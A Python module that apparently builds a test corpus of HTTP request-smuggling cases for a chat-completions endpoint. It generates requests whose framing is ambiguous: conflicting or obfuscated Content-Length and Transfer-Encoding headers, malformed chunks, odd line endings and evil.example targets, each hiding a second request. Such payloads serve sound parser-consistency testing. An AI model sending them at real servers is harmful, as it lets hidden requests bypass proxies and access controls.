"""Requests whose end can be read in two ways, each with another request hidden in it. A server
that reads them otherwise than somebody before it would answer the hidden one."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import product
from typing import Any, NamedTuple

PATH = b"/v1/chat/completions"
HIDDEN = "hidden-request"
OUTER = "outer-request"


class Case(NamedTuple):
    name: str
    data: bytes

    @property
    def plain(self) -> bool:
        """Whether every reader sees the same two requests in it."""
        return self.name in PLAIN


def body(words: str, model: str) -> bytes:
    fields: dict[str, Any] = {"model": model, "messages": [{"role": "user", "content": words}]}
    return json.dumps(fields).encode()


def request(words: str, model: str, *more: bytes) -> bytes:
    """A plain request that is served wherever it is taken for one."""
    data = body(words, model)
    return head(b"Content-Length: %d" % len(data), *more) + data


def head(*lines: bytes, end: bytes = b"\r\n", target: bytes = PATH) -> bytes:
    first = (b"POST %b HTTP/1.1" % target, b"Host: localhost", b"Content-Type: application/json")
    return end.join((*first, *lines)) + end + end


def chunked(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n0\r\n\r\n" % (len(data), data)


PLAIN = frozenset(
    [
        *[f"coding {each!r}" for each in (b"chunked", b"Chunked", b"CHUNKED")],
        *[f"coding {each!r}" for each in (b" chunked ", b"\tchunked")],
        *[f"name {each!r} ()" for each in (b"Transfer-Encoding:", b"transfer-encoding:")],
        "name b'Transfer_Encoding:' (b'Content-Length: 111',)",
        *[f"length {each!r}" for each in (b"0%d",)],
        *[f"target {PATH + each!r}" for each in (b" HTTP/1.1\r\nX: y", b"#x")],
        *[f"target {each!r}" for each in (b"*", b"//evil.example" + PATH)],
        f"target {b'http://evil.example' + PATH!r}",
        *[
            f"{place} {each!r}"
            for place in ("line", "first line")
            for each in (
                *(b"Connection: Content-Length", b"Expect: 100-continue"),
                *(b"Trailer: Content-Length", b"Connection: keep-alive, close"),
                b"Upgrade: h2c\r\nConnection: Upgrade",
            )
        ],
    ]
)
"""Odd, but not in how long they are."""
CODINGS = (
    *(b"chunked", b"Chunked", b"CHUNKED", b" chunked ", b"\tchunked", b"chunked,", b",chunked"),
    *(
        b"chunked, chunked",
        b"identity, chunked",
        b"chunked, identity",
        b"gzip, chunked",
        b"xchunked",
    ),
    *(b"chunkedx", b"chunke", b"\x0bchunked", b"\x0cchunked", b"\xa0chunked", b'"chunked"'),
    *(
        b"chunked;q=1",
        b"x",
        b"identity",
        b"chunked\x00",
        b"chunked\x0b",
        b"'chunked'",
        b"ch\xc2\xadunked",
    ),
)
NAMES = (
    *(
        b"Transfer-Encoding:",
        b"transfer-encoding:",
        b"Transfer-Encoding :",
        b"Transfer-Encoding\t:",
    ),
    *(
        b" Transfer-Encoding:",
        b"\tTransfer-Encoding:",
        b"Transfer_Encoding:",
        b"Transfer-Encoding\x00:",
    ),
    *(b"X: a\nTransfer-Encoding:", b"X: a\rTransfer-Encoding:", b"X: a\r\n Transfer-Encoding:"),
    *(b"Transfer-Encoding\r\n:", b"Transfer-Encoding:\r\n", b"Transfer-Encoding:\n"),
)
LENGTHS = (
    *(
        b"+%d",
        b"-%d",
        b"0x%x",
        b"%d,%d",
        b"%d, %d",
        b"%d;",
        b"%d a",
        b"0%d",
        b"%d\x00",
        b"%d.0",
        b"1e%d",
    ),
    *(
        b"\x0b%d",
        b"%d\x0c",
        b"\xa0%d",
        b"9999999999999999999999%d",
        b"18446744073709551616%d",
        b'"%d"',
    ),
    *(b"", b" ", b"%d_0", b"\xd9\xa1", b"0\r\n %d", b"0\r\n\t%d", b"0\n%d", b"0\r%d"),
)
CHUNKS = (
    *(b"%x\n%b\r\n0\r\n\r\n", b"%x\r\n%b\n0\r\n\r\n", b"%x\r\n%b0\r\n\r\n", b"%x\r\n%bXX0\r\n\r\n"),
    *(b"%x \r\n%b\r\n0\r\n\r\n", b"+%x\r\n%b\r\n0\r\n\r\n", b"0x%x\r\n%b\r\n0\r\n\r\n"),
    *(b"-%x\r\n%b\r\n0\r\n\r\n", b"%x_0\r\n%b\r\n0\r\n\r\n", b"\r\n%x\r\n%b\r\n0\r\n\r\n"),
    *(b"%x\r%b\r\n0\r\n\r\n", b"%x\r\n%b\r\n0\r\n", b"%x\r\n%b\r\n0\r\n\n", b"%x\r\n%b\r\n0\n\r\n"),
    *(
        b"%x;a=b\nX\r\n%b\r\n0\r\n\r\n",
        b'%x;a="\r\n%b\r\n0\r\n\r\n',
        b"%x\r\n%b\r\n00000000000000000000\r\n",
    ),
    *(
        b"ffffffffffffffff%x\r\n%b\r\n0\r\n\r\n",
        b"%x\x00\r\n%b\r\n0\r\n\r\n",
        b"%x\r\n%b\r\n0\r\nX\r\n\r\n",
    ),
    *(
        b"%x\r\n%b\r\n0\r\nX : y\r\n\r\n",
        b"%x\r\n%b\r\n0\r\n X\r\n\r\n",
        b"%x\r\r\n%b\r\n0\r\n\r\n",
    ),
    *(b"\x0b%x\r\n%b\r\n0\r\n\r\n", b"%x\x0b\r\n%b\r\n0\r\n\r\n", b"g%x\r\n%b\r\n0\r\n\r\n"),
)


def cases(model: str) -> Iterator[Case]:
    hidden, outer = request(HIDDEN, model), body(OUTER, model)
    whole, coded = len(outer), chunked(outer)
    for coding, (label, length) in product(
        CODINGS,
        (
            ("none", b"0"),
            ("outer", b"%d" % len(coded)),
            ("all", b"%d" % (len(coded) + len(hidden))),
        ),
    ):
        for first in (True, False):
            lines = [b"Content-Length: " + length, b"Transfer-Encoding: " + coding]
            lines = lines if first else lines[::-1]
            yield Case(f"both {coding!r} {label} {first}", head(*lines) + coded + hidden)
    for coding in CODINGS:
        yield Case(f"coding {coding!r}", head(b"Transfer-Encoding: " + coding) + coded + hidden)
        twice = head(b"Transfer-Encoding: chunked", b"Transfer-Encoding: " + coding)
        yield Case(f"codings {coding!r}", twice + coded + hidden)
    for name in NAMES:
        for extra in ((), (b"Content-Length: 0",), (b"Content-Length: %d" % len(coded),)):
            yield Case(f"name {name!r} {extra}", head(*extra, name + b" chunked") + coded + hidden)
    for length in LENGTHS:
        value = length.replace(b"%d", b"%d" % whole).replace(b"%x", b"%x" % whole)
        yield Case(f"length {length!r}", head(b"Content-Length: " + value) + outer + hidden)
        for other in (b"0", b"%d" % whole):
            lines = [b"Content-Length: " + value, b"Content-Length: " + other]
            yield Case(f"lengths {length!r} {other!r}", head(*lines) + outer + hidden)
            yield Case(f"lengths {other!r} {length!r}", head(*lines[::-1]) + outer + hidden)
    for chunk in CHUNKS:
        data = chunk.replace(b"%x", b"%x" % whole).replace(b"%b", outer)
        yield Case(f"chunk {chunk!r}", head(b"Transfer-Encoding: chunked") + data + hidden)
    for end in (b"\n", b"\r", b"\n\r", b"\r\r\n"):
        line = b"Content-Length: %d" % whole
        yield Case(f"line ends {end!r}", head(line, end=end) + outer + hidden)
    yield from _heads(whole, outer, hidden)


def _heads(whole: int, outer: bytes, hidden: bytes) -> Iterator[Case]:
    length = b"Content-Length: %d" % whole
    for target in (
        *(
            PATH + b" HTTP/1.1\r\nX: y",
            PATH + b"\r\nX: y",
            PATH + b"\tx",
            b"http://evil.example" + PATH,
        ),
        *(b"*", b"", PATH + b"\x00", b"//evil.example" + PATH, PATH + b"#x", b"evil.example:443"),
    ):
        yield Case(f"target {target!r}", head(length, target=target) + outer + hidden)
    for line in (
        *(
            b"Content-Length\x00: 0",
            b"Content-Length : 0",
            b" Content-Length: 0",
            b"Content Length: 0",
        ),
        *(
            b"X",
            b": y",
            b"\x00: y",
            b"X\x7f: y",
            b"X: \x00",
            b"X: a\rb",
            b"X: a\nb",
            b"X(: y",
            b"X: y\r",
        ),
        *(
            b"Connection: Content-Length",
            b"Upgrade: h2c\r\nConnection: Upgrade",
            b"Host: evil.example",
        ),
        *(b"Expect: 100-continue", b"Connection: keep-alive, close", b"Trailer: Content-Length"),
    ):
        yield Case(f"line {line!r}", head(length, line) + outer + hidden)
        yield Case(f"first line {line!r}", head(line, length) + outer + hidden)
    for version in (
        b"HTTP/1.0",
        b"HTTP/0.9",
        b"HTTP/2.0",
        b"HTTP/1.2",
        b"HTTP/1.1 ",
        b"http/1.1",
        b"X",
    ):
        data = head(b"Transfer-Encoding: chunked").replace(b"HTTP/1.1", version, 1)
        yield Case(f"version {version!r}", data + chunked(outer) + hidden)
